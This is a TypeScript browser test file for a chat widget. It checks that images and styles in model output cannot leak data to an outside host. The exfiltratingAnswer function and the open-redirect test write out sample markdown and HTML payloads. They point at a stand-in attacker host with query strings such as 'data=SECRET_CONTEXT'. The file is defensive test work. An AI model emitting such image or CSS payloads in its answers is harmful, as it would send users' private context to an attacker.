import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { scriptTagChunkPaths, strictCsp } from './support/chromium.js';
import { faults, useFaultGateway } from './support/fault-gateway.js';
import { startImageHost, type ImageHost } from './support/image-host.js';
import { openPage } from './support/open-page.js';

/**
 * Issue 8, exfiltration (SECURITY-NOTES §2): a rendered image URL carries data out. By default
 * model output causes zero requests; with `image-hosts`, only those hosts load.
 */
let allowed: ImageHost;
let attacker: ImageHost;

/** Every way markdown or HTML can make a browser fetch a URL, aimed at both hosts and at the page's own origin. */
function exfiltratingAnswer(): string[] {
  const evil = attacker.origin;
  return [
    `Your balance is shown here: ![status](${evil}/leak.png?data=SECRET_CONTEXT)\n\n`,
    `![chart][c]\n\n[c]: ${evil}/reference.png\n\n`,
    `<img src="${evil}/raw.png" srcset="${evil}/srcset.png 1x, ${evil}/srcset2.png 2x">\n\n`,
    `<div style="background:url(${evil}/style-attribute)">x</div>\n\n`,
    `<style>* { background: url(${evil}/style-element) } @import '${evil}/import.css';</style>\n\n`,
    `<link rel="stylesheet" href="${evil}/link.css">\n\n`,
    `![protocol-relative](//${attacker.host}/protocol-relative.png)\n\n`,
    '![same origin](/same-origin.png)\n\n',
    `<picture><source srcset="${evil}/picture.png"><img src="${evil}/picture-img.png"></picture>\n\n`,
    `![logo](${allowed.origin}/logo.png)\n\n`,
    'End of answer.',
  ];
}

const site = useFaultGateway(async (gateway) => {
  allowed = await startImageHost('127.0.0.1');
  attacker = await startImageHost('localhost');
  gateway.page('/', { body: '<parley-chat endpoint="/api/chat" protocol="parley" persist="none"></parley-chat>' });
  gateway.page('/allowed', { body: `<parley-chat endpoint="/api/chat" protocol="parley" persist="none" image-hosts="${allowed.host}"></parley-chat>` });
  // The integrator's half of the allow-list: the page's own img-src names the same host.
  gateway.page('/allowed-csp', {
    body: `<parley-chat endpoint="/api/chat" protocol="parley" persist="none" image-hosts="${allowed.host}"></parley-chat>`,
    csp: `${strictCsp.replace("img-src 'self'", `img-src 'self' ${allowed.origin}`)}`,
  });
});
afterAll(() => Promise.all([allowed?.close(), attacker?.close()]));

/**
 * Sends one question and waits for the whole exfiltrating answer; returns every request the page
 * made meanwhile, except the script tag's own chunks (the first question loads its protocol
 * adapter from the page's origin: the asking causes that, not the model's output).
 */
async function askForExfiltration(page: Page): Promise<string[]> {
  const requests: string[] = [];
  const ownChunks = new Set(scriptTagChunkPaths().map((path) => `${site.gateway.origin}${path}`));
  page.on('request', (request) => {
    if (!ownChunks.has(request.url())) requests.push(request.url());
  });
  site.gateway.script('', faults.answer(...exfiltratingAnswer()));
  const input = page.locator('parley-chat [part~="input"]');
  await input.fill('What is my balance?');
  await input.press('Enter');
  await page.locator('parley-chat [part~="message"][part~="assistant"]').getByText('End of answer.').waitFor();
  await page.locator('parley-chat [part~="messages"][aria-busy="false"]').waitFor();
  return requests;
}

describe('images and styles in model output', { timeout: 30_000 }, () => {
  it('cause zero requests by default, and show an inert placeholder naming the host', async () => {
    const { page, errors } = await openPage(site.browser, `${site.gateway.origin}/`);
    const requests = await askForExfiltration(page);
    // Wait on something observable: the answer's placeholders are on screen and no <img> exists at all.
    const answer = page.locator('parley-chat [part~="message"][part~="assistant"]');
    expect(await answer.locator('img').count()).toBe(0);
    expect(await answer.textContent()).toContain(`Image blocked from ${attacker.host}`);
    expect(await answer.textContent()).toContain(`Image blocked from ${allowed.host}`);
    expect(requests).toEqual([`${site.gateway.origin}/api/chat`]);
    expect(attacker.hits).toEqual([]);
    expect(allowed.hits).toEqual([]);
    expect(site.gateway.requests.filter((request) => request.url.includes('same-origin'))).toEqual([]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('load only from the hosts in image-hosts', async () => {
    const { page, errors } = await openPage(site.browser, `${site.gateway.origin}/allowed`);
    const requests = await askForExfiltration(page);
    const answer = page.locator('parley-chat [part~="message"][part~="assistant"]');
    const logo = answer.locator(`img[src="${allowed.origin}/logo.png"]`);
    await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1);
    expect(allowed.hits.map((hit) => hit.url)).toEqual(['/logo.png']);
    expect(await answer.locator('img').count()).toBe(1);
    expect(requests).toEqual([`${site.gateway.origin}/api/chat`, `${allowed.origin}/logo.png`]);
    expect(attacker.hits).toEqual([]);
    // No referrer leaks the page (an ERP URL with record ids) to the image host.
    expect(allowed.hits[0]?.headers.referer).toBeUndefined();
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("an open redirect on an allowed host is stopped by the page's img-src naming the same hosts (the widget cannot see redirects)", async () => {
    const { page, errors, violations } = await openPage(site.browser, `${site.gateway.origin}/allowed-csp`);
    const allowedBefore = allowed.hits.length;
    site.gateway.script('', faults.answer(`![chart](${allowed.origin}/redirect?to=${encodeURIComponent(`${attacker.origin}/stolen?d=SECRET`)}) End of answer.`));
    await page.locator('parley-chat [part~="input"]').fill('Chart?');
    await page.locator('parley-chat [part~="input"]').press('Enter');
    await page.locator('parley-chat [part~="message"][part~="assistant"]').getByText('End of answer.').waitFor();
    await expect.poll(() => violations.length).toBe(1);
    expect(violations[0]).toMatch(/^img-src/);
    expect(allowed.hits.slice(allowedBefore).map((hit) => hit.url)).toEqual([expect.stringMatching(/^\/redirect\?to=/)]);
    expect(attacker.hits).toEqual([]);
    // Chromium reports the blocked hop on the console itself; nothing else went wrong.
    expect(errors.filter((error) => !/^Loading the image '[^']*\/stolen\?d=SECRET' violates/.test(error))).toEqual([]);
    await page.context().close();
  });
});
